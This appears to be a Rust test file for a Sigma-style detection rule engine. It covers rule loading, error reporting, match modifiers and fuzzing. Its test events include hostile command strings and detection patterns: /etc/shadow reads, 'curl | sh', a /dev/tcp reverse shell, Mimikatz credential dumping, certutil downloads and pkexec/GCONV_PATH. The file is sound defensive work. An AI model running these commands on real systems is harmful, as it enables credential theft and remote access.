//! Rule loading and evaluation through files on disk, as the sensor and the CLI use them.

use std::path::Path;
use vigil_rules::{JsonEvent, LogSource, RuleError, RuleSet};

fn event(v: serde_json::Value) -> JsonEvent {
    match v {
        serde_json::Value::Object(m) => JsonEvent(m),
        _ => panic!("event must be an object"),
    }
}

fn load(text: &str) -> (RuleSet, vigil_rules::LoadReport) {
    let mut set = RuleSet::new();
    let mut report = vigil_rules::LoadReport::default();
    set.load_str(Path::new("t.yml"), text, &mut report);
    (set, report)
}

const LINUX_PROC: &str = "linux/process_creation";

#[test]
fn shipped_shadow_rule_matches_tools_not_editors_of_other_files() {
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules");
    let (set, report) = RuleSet::load_paths(&[rules]);
    assert!(report.rejected.is_empty(), "{:?}", report.rejected);
    let src = LogSource::parse(LINUX_PROC);
    let hit = |image: &str, cmd: &str| {
        set.evaluate(
            &src,
            &event(serde_json::json!({"Image": image, "CommandLine": cmd})),
        )
        .iter()
        .any(|m| m.rule.id == "6b0e3f4a-9c1d-4f57-b0a8-3c2d7e5f9a11")
    };
    assert!(hit("/usr/bin/cat", "cat /etc/shadow"));
    assert!(hit("/usr/bin/base64", "base64 /etc/shadow"));
    assert!(hit("/bin/grep", "grep root /ETC/SHADOW"));
    assert!(hit("/usr/bin/cp", "cp /etc/gshadow /tmp/x"));
    assert!(!hit("/usr/bin/cat", "cat /etc/passwd"));
    assert!(!hit(
        "/usr/sbin/unix_chkpwd",
        "unix_chkpwd root /etc/shadow"
    ));
    // Other log sources are not evaluated against a linux process_creation rule.
    let win = LogSource::parse("windows/process_creation");
    assert!(
        set.evaluate(
            &win,
            &event(serde_json::json!({"Image": "/usr/bin/cat", "CommandLine": "cat /etc/shadow"}))
        )
        .is_empty()
    );
}

#[test]
fn conditions_selections_and_keywords() {
    let (set, report) = load(
        r#"
title: t
id: r1
logsource: {product: linux, category: process_creation}
detection:
  sel_a:
    Image|endswith: /curl
  sel_b:
    - CommandLine|contains|all: ['|', 'sh']
    - CommandLine|re: '^bash -i'
  _helper:
    User: root
  filter:
    CommandLine|contains: safe
  condition: 1 of sel_* and not filter
"#,
    );
    assert_eq!(report.loaded, 1, "{:?}", report.rejected);
    let src = LogSource::parse(LINUX_PROC);
    let m = |v| !set.evaluate(&src, &event(v)).is_empty();
    assert!(m(
        serde_json::json!({"Image": "/usr/bin/curl", "CommandLine": "curl x"})
    ));
    assert!(m(
        serde_json::json!({"Image": "/x", "CommandLine": "curl x | sh"})
    ));
    assert!(!m(
        serde_json::json!({"Image": "/x", "CommandLine": "curl x | python"})
    ));
    assert!(m(
        serde_json::json!({"Image": "/x", "CommandLine": "bash -i >& /dev/tcp/1.2.3.4/1"})
    ));
    assert!(
        !m(serde_json::json!({"Image": "/x", "CommandLine": "BASH -i"})),
        "re is case-sensitive"
    );
    assert!(!m(
        serde_json::json!({"Image": "/usr/bin/curl", "CommandLine": "curl safe"})
    ));
}

#[test]
fn them_excludes_underscore_and_null_means_absent() {
    let (set, report) = load(
        r#"
title: t
logsource: {product: linux}
detection:
  a:
    ParentImage: null
  _b:
    Image: /never
  condition: all of them
"#,
    );
    assert_eq!(report.loaded, 1, "{:?}", report.rejected);
    let src = LogSource::parse("linux/process_creation");
    assert_eq!(
        set.evaluate(&src, &event(serde_json::json!({"Image": "/x"})))
            .len(),
        1
    );
    assert!(
        set.evaluate(&src, &event(serde_json::json!({"ParentImage": "/p"})))
            .is_empty()
    );
    assert_eq!(
        set.rules()[0].id,
        "t",
        "a rule without id is named by its title"
    );
}

#[test]
fn rejections_name_file_line_id_and_reason_and_others_still_load() {
    let text = r#"title: good
id: good-1
logsource: {product: linux}
detection:
  s: {Image: /x}
  condition: s
---
title: bad modifier
id: bad-1
logsource: {product: linux}
detection:
  s:
    Image|bogus: /x
  condition: s
---
title: bad condition
id: bad-2
logsource: {product: linux}
detection:
  s: {Image: /x}
  condition: s and missing
---
title: correlation
correlation: {type: event_count, rules: [good-1], timespan: 5m}
"#;
    let (set, report) = load(text);
    assert_eq!(set.len(), 1);
    assert_eq!(report.to_string(), "1 loaded, 3 rejected");
    let r = &report.rejected[0];
    assert_eq!((r.id.as_deref(), r.line), (Some("bad-1"), 13));
    assert_eq!(
        r.error,
        RuleError::UnknownModifier {
            field: "Image".into(),
            modifier: "bogus".into()
        }
    );
    assert_eq!(
        report.rejected[1].error,
        RuleError::UnknownSelection("missing".into())
    );
    assert_eq!(report.rejected[1].line, 21);
    assert_eq!(
        report.rejected[2].error,
        RuleError::MissingField("correlation.condition")
    );
    assert!(
        report.rejected[0]
            .to_string()
            .starts_with("t.yml:13: rule bad-1: unknown modifier")
    );
}

#[test]
fn malformed_yaml_and_unsupported_forms_are_rejections_not_panics() {
    for text in [
        "title: [unclosed",
        "- just\n- a list",
        "title: t\nlogsource: 5\ndetection: {s: {a: 1}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {a: 1}}",
        "title: t\nlogsource: {}\ndetection: {s: {'a|re': '('}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {'a|base64': 'x*'}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {'a|re|contains': 'x'}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {'a|cidr': '10.0.0.0/99'}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {'a|gt': 'ten'}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {'a|expand': '%unset%'}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {'a|contains|startswith': 'x'}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {a: 1}, condition: 's | count() > 5'}",
        "title: t\nlogsource: {}\ndetection: {s: {a: []}, condition: s}",
        "title: t\nlogsource: {}\nlevel: severe\ndetection: {s: {a: 1}, condition: s}",
    ] {
        let (set, report) = load(text);
        assert_eq!(
            (set.len(), report.rejected.len()),
            (0, 1),
            "{text:?} → {:?}",
            report.rejected
        );
    }
}

#[test]
fn unreadable_paths_are_reported() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("a.yml"),
        "title: t\nlogsource: {}\ndetection: {s: {a: 1}, condition: s}\n",
    )
    .unwrap();
    std::fs::write(dir.path().join("notes.txt"), "ignored").unwrap();
    let missing = dir.path().join("missing");
    let (set, report) = RuleSet::load_paths(&[dir.path().to_path_buf(), missing.clone()]);
    assert_eq!(set.len(), 1);
    assert_eq!(report.rejected.len(), 1);
    assert_eq!(report.rejected[0].path, missing);
}

fn one_rule(detection: &str) -> RuleSet {
    let text = format!(
        "title: t\nid: r\nlogsource: {{product: linux, category: process_creation}}\ndetection:\n{detection}"
    );
    let (set, report) = load(&text);
    assert!(report.rejected.is_empty(), "{:?}", report.rejected);
    set
}

fn hits(set: &RuleSet, v: serde_json::Value) -> bool {
    !set.evaluate(&LogSource::parse(LINUX_PROC), &event(v))
        .is_empty()
}

#[test]
fn spec_modifiers_windash_base64_and_wide() {
    let set = one_rule("  s:\n    CommandLine|windash|contains: ' -urlcache '\n  condition: s\n");
    for cmd in [
        "certutil -urlcache x",
        "certutil /urlcache x",
        "certutil \u{2013}urlcache x",
    ] {
        assert!(hits(&set, serde_json::json!({"CommandLine": cmd})), "{cmd}");
    }
    assert!(!hits(
        &set,
        serde_json::json!({"CommandLine": "certutil +urlcache x"})
    ));

    // base64offset|contains finds the value at any alignment inside an encoded blob.
    let set = one_rule(
        "  s:\n    CommandLine|base64offset|contains: 'Invoke-Mimikatz'\n  condition: s\n",
    );
    for prefix in ["", "a", "ab"] {
        let blob = base64_std(format!("{prefix}Invoke-Mimikatz -DumpCreds").as_bytes());
        assert!(
            hits(
                &set,
                serde_json::json!({"CommandLine": format!("powershell -enc {blob}")})
            ),
            "offset {}",
            prefix.len()
        );
    }
    assert!(!hits(
        &set,
        serde_json::json!({"CommandLine": format!("powershell -enc {}", base64_std(b"Get-Process"))})
    ));

    // wide|base64offset: PowerShell's UTF-16LE -EncodedCommand.
    let set = one_rule("  s:\n    CommandLine|wide|base64offset|contains: 'IEX'\n  condition: s\n");
    let utf16: Vec<u8> = "x IEX y"
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    assert!(hits(
        &set,
        serde_json::json!({"CommandLine": base64_std(&utf16)})
    ));

    let set = one_rule("  s:\n    CommandLine|base64: 'cmd'\n  condition: s\n");
    assert!(hits(&set, serde_json::json!({"CommandLine": "Y21k"})));
}

fn base64_std(b: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in b.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for (i, shift) in [18, 12, 6, 0].into_iter().enumerate() {
            out.push(if i <= c.len() {
                char::from(T[((n >> shift) & 63) as usize])
            } else {
                '='
            });
        }
    }
    out
}

#[test]
fn spec_modifiers_numbers_networks_time_and_references() {
    let set = one_rule(
        "  s:\n    DestinationPort|gte: 1024\n    DestinationPort|lt: '2048'\n  condition: s\n",
    );
    assert!(hits(&set, serde_json::json!({"DestinationPort": 1024})));
    assert!(hits(&set, serde_json::json!({"DestinationPort": "2000"})));
    assert!(!hits(&set, serde_json::json!({"DestinationPort": 2048})));
    assert!(!hits(&set, serde_json::json!({"DestinationPort": "high"})));

    let set = one_rule(
        "  s:\n    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 'fd00::/8'\n  condition: not s\n",
    );
    assert!(!hits(
        &set,
        serde_json::json!({"DestinationIp": "10.2.3.4"})
    ));
    assert!(!hits(&set, serde_json::json!({"DestinationIp": "fd12::1"})));
    assert!(hits(&set, serde_json::json!({"DestinationIp": "8.8.8.8"})));

    let set = one_rule("  s:\n    User|neq: root\n  condition: s\n");
    assert!(hits(&set, serde_json::json!({"User": "alice"})));
    assert!(!hits(&set, serde_json::json!({"User": "ROOT"})));

    let set = one_rule("  s:\n    UtcTime|hour|gte: 22\n  condition: s\n");
    assert!(hits(
        &set,
        serde_json::json!({"UtcTime": "2025-01-02 23:10:00.000"})
    ));
    assert!(!hits(
        &set,
        serde_json::json!({"UtcTime": "2025-01-02 09:10:00.000"})
    ));

    let set = one_rule("  s:\n    ParentImage|fieldref: Image\n  condition: s\n");
    assert!(hits(
        &set,
        serde_json::json!({"Image": "/bin/X", "ParentImage": "/bin/x"})
    ));
    assert!(!hits(
        &set,
        serde_json::json!({"Image": "/bin/x", "ParentImage": "/bin/y"})
    ));
    assert!(!hits(&set, serde_json::json!({"ParentImage": "/bin/y"})));
    // Anchors, `cased`, and text beyond ASCII (compared after full lower-casing).
    for (rule, image, parent, want) in [
        (
            "ParentImage|fieldref|startswith: Image",
            "/BIN",
            "/bin/x",
            true,
        ),
        (
            "ParentImage|fieldref|startswith: Image",
            "/bin/x/y",
            "/bin/x",
            false,
        ),
        ("ParentImage|fieldref|endswith: Image", "X", "/bin/x", true),
        (
            "ParentImage|fieldref|contains: Image",
            "IN/",
            "/bin/x",
            true,
        ),
        (
            "ParentImage|fieldref|cased: Image",
            "/bin/X",
            "/bin/x",
            false,
        ),
        (
            "ParentImage|fieldref|cased: Image",
            "/bin/x",
            "/bin/x",
            true,
        ),
        ("ParentImage|fieldref: Image", "/ÜBER", "/über", true),
        (
            "ParentImage|fieldref|endswith: Image",
            "ÜBER",
            "/über",
            true,
        ),
        ("ParentImage|fieldref|endswith: Image", "", "/x", true),
    ] {
        let set = one_rule(&format!("  s:\n    {rule}\n  condition: s\n"));
        assert_eq!(
            hits(
                &set,
                serde_json::json!({"Image": image, "ParentImage": parent})
            ),
            want,
            "{rule} {image} {parent}"
        );
    }

    let set =
        one_rule("  s:\n    CommandLine|exists: true\n    User|exists: false\n  condition: s\n");
    assert!(hits(&set, serde_json::json!({"CommandLine": ""})));
    assert!(!hits(
        &set,
        serde_json::json!({"CommandLine": "", "User": "x"})
    ));

    let set = one_rule("  s:\n    CommandLine|cased: 'Mimikatz'\n  condition: s\n");
    assert!(hits(&set, serde_json::json!({"CommandLine": "Mimikatz"})));
    assert!(!hits(&set, serde_json::json!({"CommandLine": "mimikatz"})));

    let set = one_rule("  s:\n    CommandLine|re|i|s: '^a.b$'\n  condition: s\n");
    assert!(hits(&set, serde_json::json!({"CommandLine": "A\nB"})));
}

#[test]
fn keyless_all_and_expand_placeholders() {
    let set = one_rule(
        "  keywords:\n    '|all':\n      - 'pkexec'\n      - 'GCONV_PATH'\n  condition: keywords\n",
    );
    assert!(hits(
        &set,
        serde_json::json!({"a": "pkexec here", "b": "GCONV_PATH=."})
    ));
    assert!(!hits(&set, serde_json::json!({"a": "pkexec only"})));

    let text = "title: t\nlogsource: {product: linux}\ndetection:\n  s:\n    Host|expand: '%dcs%'\n  condition: s\n";
    let mut opts = vigil_rules::CompileOptions::default();
    opts.placeholders
        .insert("dcs".into(), vec!["dc1".into(), "dc2".into()]);
    let mut set = RuleSet::with_options(opts);
    let mut report = vigil_rules::LoadReport::default();
    set.load_str(Path::new("t.yml"), text, &mut report);
    assert_eq!(report.loaded, 1, "{:?}", report.rejected);
    assert!(
        !set.evaluate(
            &LogSource::parse("linux/x"),
            &event(serde_json::json!({"Host": "DC2"}))
        )
        .is_empty()
    );
    let (_, report) = load(text);
    assert!(
        report.rejected[0].error.to_string().contains("%dcs%"),
        "{}",
        report.rejected[0].error
    );
}

mod fuzz {
    //! Rule YAML and conditions are untrusted input: no panic, whatever the bytes.
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn arbitrary_yaml_never_panics(text in "\\PC{0,300}") {
            let _ = load(&text);
        }

        #[test]
        fn arbitrary_conditions_never_panic(cond in "[a-z0-9_*()| ]{0,60}", sel in "[a-zA-Z|]{1,20}") {
            let text = format!("title: t\nlogsource: {{product: linux}}\ndetection:\n  s1:\n    '{sel}': x\n  condition: '{cond}'\n");
            let (set, _) = load(&text);
            let src = LogSource::parse("linux/process_creation");
            let _ = set.evaluate(&src, &event(serde_json::json!({"Image": "x"})));
        }

        #[test]
        fn arbitrary_values_never_panic(v in "\\PC{0,40}", m in prop::sample::select(vec!["", "|contains", "|re", "|base64offset|contains", "|windash", "|cidr", "|gt", "|wide|base64", "|hour", "|fieldref", "|expand"])) {
            let text = format!("title: t\nlogsource: {{product: linux}}\ndetection:\n  s:\n    F{m}: {}\n  condition: s\n", serde_json::to_string(&v).unwrap());
            let (set, _) = load(&text);
            let _ = set.evaluate(&LogSource::parse("linux/x"), &event(serde_json::json!({"F": v, "G": "1.2.3.4"})));
        }
    }
}

#[test]
fn bundles_round_trip_and_bad_bundles_are_rejected() {
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules");
    let (set, report) = RuleSet::load_paths_for_bundle(&[&rules]);
    assert!(report.rejected.is_empty());
    let bundle = set.to_bundle().expect("sources were kept");
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("pack.vrb");
    std::fs::write(&file, &bundle).unwrap();
    let (from_bundle, r2) = RuleSet::load_paths(&[&file]);
    assert!(r2.rejected.is_empty(), "{:?}", r2.rejected);
    assert_eq!(from_bundle.rules().len(), set.rules().len());
    assert_eq!(from_bundle.correlations().len(), set.correlations().len());
    let src = LogSource::parse(LINUX_PROC);
    let e = event(serde_json::json!({"Image": "/usr/bin/cat", "CommandLine": "cat /etc/shadow"}));
    let ids = |s: &RuleSet| {
        s.evaluate(&src, &e)
            .iter()
            .map(|m| m.rule.id.clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(ids(&from_bundle), ids(&set));
    assert!(!ids(&set).is_empty());
    // A set loaded the ordinary way keeps no sources.
    assert!(RuleSet::load_paths(&[&rules]).0.to_bundle().is_none());

    std::fs::write(
        &file,
        "{\"format\": \"something-else\", \"version\": 1, \"documents\": []}",
    )
    .unwrap();
    let (s, r) = RuleSet::load_paths(&[&file]);
    assert_eq!((s.len(), r.rejected.len()), (0, 1));
    std::fs::write(&file, "not json").unwrap();
    assert_eq!(RuleSet::load_paths(&[&file]).1.rejected.len(), 1);
    // A tampered document inside a bundle is still compiled and judged.
    let tampered = bundle.replacen("\"condition\":\"", "\"condition\":\"nonexistent and ", 1);
    std::fs::write(&file, tampered).unwrap();
    let (s, r) = RuleSet::load_paths(&[&file]);
    assert_eq!(r.rejected.len(), 1, "{:?}", r.rejected);
    assert_eq!(
        s.rules().len() + s.correlations().len() + 1,
        set.rules().len() + set.correlations().len()
    );
}

#[test]
fn a_rule_names_the_fields_it_reads_and_whether_it_has_keywords() {
    let (set, report) = load(concat!(
        "title: t\nid: t\nlogsource: {product: linux, category: process_creation}\n",
        "detection:\n  s: {Image|endswith: /x, CommandLine|fieldref: ParentCommandLine}\n",
        "  f: [{User: root}, {Image: /y}]\n  k: [evil]\n  condition: s and not f and k\n---\n",
        "title: u\nid: u\nlogsource: {product: linux, category: process_creation}\n",
        "detection: {s: {Image: /z}, condition: s}\n",
    ));
    assert!(report.rejected.is_empty(), "{:?}", report.rejected);
    let r = &set.rules()[0];
    assert_eq!(
        r.fields(),
        ["CommandLine", "Image", "ParentCommandLine", "User"]
    );
    assert!(r.has_keywords());
    assert_eq!(set.rules()[1].fields(), ["Image"]);
    assert!(!set.rules()[1].has_keywords());
}
